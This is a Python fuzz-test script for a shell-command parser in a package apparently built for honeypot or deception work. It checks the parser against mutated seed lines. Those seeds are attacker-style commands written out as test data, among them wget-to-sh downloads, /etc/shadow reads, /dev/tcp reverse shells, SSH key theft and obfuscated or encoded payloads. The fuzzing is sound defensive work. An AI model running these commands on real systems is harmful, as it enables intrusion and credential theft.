"""Random attacks on the shell view: ``python -m tests.shell.fuzz 200000 [SEED]``.

Each input is a real-looking line that was cut, doubled, spliced with another or sprinkled with shell syntax. For each
the view must be total, deterministic, bounded and honest about ranges; the slowest inputs are printed.
"""

from __future__ import annotations

import random
import sys
from time import perf_counter

from decnet.shell import EMPTY, ShellState, unroll
from decnet.shell.limits import MAX_COMMANDS
from decnet.shell.unroll import unroll_fully

SEEDS = (
    "cd /tmp || cd /var/run; wget http://198.51.100.7/a.sh -O - | sh; rm -f a.sh",
    'for host in 10.0.0.{1..5} "$x"; do nc -z -w1 $host 22 2>/dev/null && echo "$host up"; done &',
    "if [ -f /etc/shadow ]; then cat /etc/shadow | base64 -w0; elif id; then w; else exit 1; fi",
    'case "$(uname -m)" in x86_64|i?86) f=x86;; arm*) f=arm;; *) exit;; esac; ./$f',
    "f() { local a=$1; curl -s ${a:-host}/x | (cat; echo done) > /tmp/y 2>&1; }; f 198.51.100.7",
    "cat <<'EOF' > /tmp/a.sh\n#!/bin/sh\necho ${x} $(id) `w`\nEOF\nchmod +x /tmp/a.sh",
    "echo aWQ7IHVuYW1lIC1hCg== | base64 -d | sudo -u root bash -s -- a b",
    "python3 -c \"import os;os.system('id; wget h/x')\"",
    "x=w;y=get;$x$y${IFS}http://h/a;z=${x}${y};${z:0:1}get h; unset x",
    "$'\\x77\\147et' h/x; printf '\\x69\\x64' | sh; {ls,-la,/tmp}",
    "find / -perm -4000 -type f -exec sh -c 'ls -la {}' \\; 2>/dev/null | xargs -I% cp % /tmp",
    'while read l; do eval "$l"; done < <(curl -s h/list); [[ -n $l && $l < x ]] || ((i++))',
    "sh -c \"$(echo 'echo \"$(id)\"')\" & trap 'rm -f x' EXIT; exec 3<>/dev/tcp/h/80; cat <&3",
    'cmd /c "echo x > C:\\a.txt & powershell -enc aQBlAHgA"',
    "ssh -o A=b root@h 'cat ~/.ssh/*; tar czf - /etc | gpg' > out; docker exec -it c sh -c 'id'",
    "a=(1 2 'b c'); echo ${a[@]} ${#a} ${a/1/2} ${a%c}; export PATH=$PATH:. A=b; alias l='ls -l'; l",
    "gzip -d <<< x | tr a-z n-za-m | rev | tee f | bash -i >& /dev/tcp/h/1 0>&1",
    "naïve ✓ \U0001f600 | wget ünïcode; echo \"\\$x\" '\\' \\",
)
_SYNTAX = (
    r"$( ${ $(( <( >( (( [[ ]] << <<- <<< >> 2>&1 &> && || |& ;; $' $@ $* $1 ${IFS} \x77 {1..9} {a,b} a() a=( $[ x)"
)
_NAMES = "if then else fi for in do done while until case esac function ! select time sudo sh -c eval exec echo -e"
_MORE_NAMES = "base64 -d xargs env find -exec rev tr a-z n-za-m printf python perl -c alias set -- read cd awk EOF"
PIECES = (
    *"()[]{}<>|&;$`'\"\\#!*?~=+-/@:%^,. \n\t\r\0\x01é\U0001f600\ud800",
    *_SYNTAX.split(),
    *_NAMES.split(),
    *_MORE_NAMES.split(),
)


def mutated(source: random.Random) -> str:
    """A seed after one to six accidents."""
    text = source.choice(SEEDS)
    for _ in range(source.randint(1, 6)):
        at = source.randint(0, len(text))
        to = min(len(text), at + source.randint(0, 20))
        accident = source.randrange(5)
        if accident == 0:
            text = text[:at] + source.choice(PIECES) + text[at:]
        elif accident == 1:
            text = text[:at] + text[to:]
        elif accident == 2:
            text = text[:to] + text[at:to] * source.randint(1, 4) + text[to:]
        elif accident == 3:
            other = source.choice(SEEDS)
            cut = source.randint(0, len(other))
            text = text[:at] + other[cut : cut + source.randint(1, 60)] + text[at:]
        else:
            text = text[:at] + source.choice(PIECES) * source.randint(1, 40) + text[at:]
    return text[:4000]


def check(text: str, state: ShellState) -> ShellState:
    """Raises when the view of ``text`` breaks a promise; returns the state after it."""
    view = unroll(text, state)
    assert view == unroll_fully(text, state), "the short cut differs"
    size = len(text.encode("utf-8", "surrogatepass"))
    assert len(view.commands) <= MAX_COMMANDS
    for command in view.commands:
        assert 0 <= command.start <= command.end <= size, (command.start, command.end, size)
        assert command.args == " ".join(command.argv)
    return view.state


def fuzz(count: int, seed: int = 1) -> list[tuple[float, str]]:
    """Checks ``count`` mutated lines; returns the slowest with their milliseconds."""
    source = random.Random(seed)
    slowest: list[tuple[float, str]] = []
    state = EMPTY
    for number in range(count):
        text = mutated(source)
        if number % 20 == 0:
            state = EMPTY
        begun = perf_counter()
        try:
            state = check(text, state)
        except Exception:
            print(repr(text))
            raise
        slowest.append(((perf_counter() - begun) * 500, text))  # two views per check
        if len(slowest) > 1000:
            slowest = sorted(slowest, reverse=True)[:10]
    return sorted(slowest, reverse=True)[:10]


if __name__ == "__main__":
    for milliseconds, text in fuzz(int(sys.argv[1]), int(sys.argv[2]) if len(sys.argv) > 2 else 1):
        print(f"{milliseconds:8.2f} ms  {len(text)} characters  {text[:150]!r}")
